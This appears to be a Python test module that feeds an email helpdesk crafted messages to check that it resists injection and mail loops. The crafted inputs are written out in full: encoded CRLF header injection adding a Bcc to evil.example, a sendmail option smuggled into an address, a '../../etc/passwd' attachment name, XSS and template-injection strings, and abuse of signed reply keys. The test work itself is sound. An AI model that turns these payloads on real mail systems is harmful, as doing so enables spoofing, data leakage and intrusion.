"""What tries to come out again where it does not belong: fields in fields, our own mail, loops."""

from __future__ import annotations

from collections.abc import Callable

from attacks.attack import Attack, Twin
from attacks.scene import ANN, ANNS, BOB, EVE, FIRE, Incoming, Scene

END = "=0D=0A"
BCC = f"=?utf-8?q?x{END}Bcc=3A_eve=40evil=2Eexample{END}X-Evil=3A_yes?="


def new(*fields: str, body: str = "It burns.") -> Callable[[Scene], Incoming]:
    """A mail that opens a ticket."""
    return lambda s: s.written([*fields, "To: support@desk.example"], body)


def spoken(*fields: str, body: str = "It burns.") -> Callable[[Scene], Incoming]:
    """A mail of Ann's to her ticket, with her key."""

    def mail(scene: Scene) -> Incoming:
        key = scene.key("ann")
        return scene.written([f"From: {ANN}", f"To: {key}", *fields], body, to=(key,), mail_from=ANN, peer=ANNS)

    return mail


def back(mark: str, sender: str = "") -> Callable[[Scene], Incoming]:
    """A mail of ours comes back as it was."""

    def mail(scene: Scene) -> Incoming:
        raw = scene[mark].message.as_bytes()
        if sender:
            raw = b"\n".join(line for line in raw.split(b"\n") if not line.startswith(b"From:"))
            raw = f"From: {sender}\n".encode() + raw
        return Incoming(raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), EVE)

    return mail


def with_file(name: str) -> Callable[[Scene], Incoming]:
    disposition = f'Content-Disposition: attachment; filename="{name}"'
    body = f"--b\n\nIt burns.\n--b\nContent-Type: text/plain\n{disposition}\n\nx\n--b--\n"
    return new(f"From: {EVE}", "Subject: x", 'Content-Type: multipart/mixed; boundary="b"', body=body)


ATTACKS = (
    Attack("fields in a display name", "nothing in it points to a ticket", new(f"From: {BCC} <{EVE}>", "Subject: x")),
    Attack("fields in the subject", "nothing in it points to a ticket", new(f"From: {EVE}", f"Subject: {BCC}")),
    Attack(
        "fields in the subject of an answer",
        "ann@example.org takes part in the ticket",
        spoken(f"Subject: {BCC}"),
        goes_on=True,
    ),
    Attack(
        "fields in base64",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: =?utf-8?b?eA0KWC1FdmlsOiB5ZXMNCkJjYzogZXZlQGV2aWwuZXhhbXBsZQ0K?="),
    ),
    Attack(
        "fields behind other line ends",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: =?utf-8?q?x=C2=85X-Evil=3A_yes=E2=80=A8Bcc=3A_eve=40evil=2Eexample?="),
    ),
    Attack(
        "fields in Message-ID",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: x", "Message-ID: <a\tX-Evil: yes@evil.example>"),
    ),
    Attack(
        "fields in an encoded Message-ID",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: x", f"Message-ID: <{BCC}@evil.example>"),
    ),
    Attack(
        "fields in References",
        "ann@example.org takes part in the ticket",
        spoken("Subject: x", f"References: <{BCC}@evil.example> <a b@evil.example>"),
        goes_on=True,
    ),
    Attack(
        "fields in Reply-To",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: x", f"Reply-To: {BCC} <{ANN}>"),
    ),
    Attack(
        "an address with a line end in it",
        "nothing in it points to a ticket",
        new("From: =?utf-8?q?eve=40evil=2Eexample=0D=0ABcc=3A_ann=40example=2Eorg?=", "Subject: x"),
        to=(EVE,),
    ),
    Attack(
        "an address with a NUL", "nothing in it points to a ticket", new("From: eve\x00@evil.example", "Subject: x")
    ),
    Attack(
        "an address that is an option",
        "nothing in it points to a ticket",
        new("From: -oQ/tmp@evil.example", "Subject: x"),
    ),
    Attack("fields in a file's name", "nothing in it points to a ticket", with_file("x\\\r\nX-Evil: yes.txt")),
    Attack("fields in a file's encoded name", "nothing in it points to a ticket", with_file(BCC)),
    Attack("a file's name that leads elsewhere", "nothing in it points to a ticket", with_file("../../etc/passwd")),
    Attack(
        "markup in a display name",
        "nothing in it points to a ticket",
        new(f'From: "<script>alert(1)</script>" <{EVE}>', "Subject: <img src=x onerror=alert(1)>"),
    ),
    Attack(
        "a template in the subject",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: {{ 7 * 7 }}{% for x in y %}"),
    ),
    Attack(
        "another customer in Reply-To",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: x", f"Reply-To: {ANN}"),
    ),
    Attack(
        "a receipt wanted at another customer's",
        "nothing in it points to a ticket",
        new(f"From: {EVE}", "Subject: x", f"Disposition-Notification-To: {ANN}", f"Return-Receipt-To: {ANN}"),
    ),
    Attack("an agent in Cc", "nothing in it points to a ticket", new(f"From: {EVE}", "Subject: x", f"Cc: {BOB}")),
    Attack("our receipt comes back", "our own mail came back", back("ann")),
    Attack("an agent's notice comes back", "our own mail came back", back("bob")),
    Attack("our answer comes back from the customer's address", "our own mail came back", back("answer", ANN)),
    Attack(
        "our mailbox writes to itself",
        "nothing in it points to a ticket",
        new("From: support@desk.example", "Subject: x"),
    ),
    Attack(
        "our mailbox writes to the desk address",
        "nothing in it points to a ticket",
        lambda s: s.mail("support@desk.example", "#list", to="support+desk@desk.example", subject="x"),
    ),
    Attack(
        "our other mailbox writes to this one",
        "nothing in it points to a ticket",
        new("From: help@other.example", "Subject: x"),
    ),
    Attack(
        "a machine writes to the desk address in an agent's name",
        "a machine's mail to the desk address",
        lambda s: s.mail(BOB, "#offline", to="support+desk@desk.example", subject="x").with_field(
            "Auto-Submitted: auto-replied"
        ),
    ),
    Attack(
        "a stranger's mail to the desk address",
        "nothing in it points to a ticket",
        lambda s: s.mail(EVE, "#list", to="support+desk@desk.example", subject="x"),
    ),
    Attack(
        "a stranger who answers a note",
        "key of bob@desk.example was used by eve@evil.example",
        lambda s: s.keyed(EVE, "note", "Tell me more."),
        goes_on=True,
    ),
    Attack(
        "a customer who answers a note",
        "ann@example.org takes part in the ticket",
        lambda s: s.mail(ANN, "What valve?", subject="Re: Fire", In_Reply_To=f"<{s['note'].id}>").sent_from(ANNS, ANN),
        goes_on=True,
    ),
    Attack(
        "an agent's answer that quotes the note",
        "the signed reply address of bob@desk.example",
        lambda s: quoting(s),
        goes_on=True,
        to=(ANN,),
    ),
)


def quoting(scene: Scene) -> Incoming:
    """Bob answers the customer below a quote of what Carla noted."""
    quoted = "".join(f"> {line}\n" for line in scene["note"].text.splitlines())
    text = f"We look after it.\n\nOn Friday Example Support wrote:\n{quoted}"
    return scene.keyed(BOB, "bob", text)


def asks(scene: Scene) -> bool:
    """Whether a new ticket was opened, and its sender has its receipt."""
    return len(scene.desk.tickets()) == 5 and scene.desk.notice_to("eve").subject.endswith("x")


TWINS = (
    Twin("a plain mail", new(f"From: Eve <{EVE}>", "Subject: x"), acts=asks),
    Twin(
        "an answer to the customer",
        lambda s: s.keyed(BOB, "bob", "We look after it."),
        acts=lambda s: ("agent", "public", "We look after it.") in s.desk.messages(1),
    ),
    Twin(
        "a tag in the number's ticket by its customer",
        lambda s: s.mail(ANN, "It burns.", subject=f"[{FIRE}]").sent_from(ANNS, ANN),
        acts=lambda s: ("customer", "public", "It burns.") in s.desk.messages(1),
    ),
)
